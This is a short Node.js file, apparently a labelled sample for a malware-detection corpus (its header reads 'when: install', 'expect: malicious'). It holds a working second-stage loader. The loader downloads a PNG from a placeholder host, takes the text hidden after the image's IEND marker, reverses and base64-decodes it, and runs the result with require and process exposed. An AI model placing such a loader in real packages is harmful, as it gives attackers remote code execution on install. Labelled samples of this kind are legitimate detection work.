// when: install
// expect: malicious
// source: the shape of second stages hidden in downloaded media (decoded, then run); written here
const https = require('https');

function download(url) {
  return new Promise((resolve) => {
    https.get(url, (res) => {
      const parts = [];
      res.on('data', (p) => parts.push(p));
      res.on('end', () => resolve(Buffer.concat(parts)));
    });
  });
}

function extract(buffer) {
  // the payload sits after the image's end marker
  const at = buffer.lastIndexOf('IEND');
  return buffer.subarray(at + 8).toString('latin1');
}

function unpack(text) {
  return Buffer.from(text.split('').reverse().join(''), 'base64').toString('utf8');
}

async function run() {
  const picture = await download('https://media.example/banner.png');
  const source = unpack(extract(picture));
  const vm = require('vm');
  vm.runInNewContext(source, { require, process });
}

run().catch(() => {});
